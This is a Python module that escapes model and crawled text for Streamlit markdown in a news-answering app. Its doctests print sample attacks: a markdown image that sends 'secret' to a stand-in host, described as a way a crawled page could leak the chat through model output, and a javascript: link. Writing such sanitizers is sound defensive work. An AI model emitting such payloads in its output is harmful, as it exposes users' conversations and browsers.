"""Model and crawled text made safe for `st.markdown`: no images, links only to http(s), titles escaped.

Nothing here returns HTML; the UI never passes `unsafe_allow_html`.
"""

from __future__ import annotations

import re
from datetime import datetime
from urllib.parse import quote

_IMAGE = re.compile(r"!\[")
_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$])")


def safe_markdown(text: str) -> str:
    """Markdown that cannot load remote images: a crawled page could plant one to leak the chat by URL.

    >>> safe_markdown("결과 ![x](http://evil.test/p.png?q=secret) 끝")
    '결과 !\\\\[x](http://evil.test/p.png?q=secret) 끝'
    """
    return _IMAGE.sub(r"!\\[", text)


def escape_markdown(text: str) -> str:
    """Text shown literally by `st.markdown` (a title cannot open a link, an image or a heading).

    >>> escape_markdown("[속보] 요금 *인상*")
    '\\\\[속보\\\\] 요금 \\\\*인상\\\\*'
    """
    return _SPECIAL.sub(r"\\\1", " ".join(text.split()))


def md_link(title: str, url: str) -> str:
    """A Markdown link with an escaped title; a URL that is not http(s) gives the title alone.

    >>> md_link("지하철 [요금]", "https://e.kr/a b")
    '[지하철 \\\\[요금\\\\]](https://e.kr/a%20b)'
    >>> md_link("위험", "javascript:alert(1)")
    '위험'
    """
    if not url.lower().startswith(("http://", "https://")):
        return escape_markdown(title)
    return f"[{escape_markdown(title)}]({quote(url, safe=':/?#&=%+,;@~!$*')})"


def citation_line(n: int, title: str, url: str, outlet: str | None, published: datetime | str | None) -> str:
    """One source under an answer: `[n] title · outlet · date`, the title linking to the article.

    >>> citation_line(1, "요금 인상", "https://e.kr/1", "한빛일보", "2026-03-01T09:00:00+09:00")
    '\\\\[1\\\\] [요금 인상](https://e.kr/1) · 한빛일보 · 2026-03-01'
    """
    day = published.date().isoformat() if isinstance(published, datetime) else (published or "")[:10]
    parts = [f"\\[{n}\\] {md_link(title or url, url)}", escape_markdown(outlet or ""), day]
    return " · ".join(p for p in parts if p)
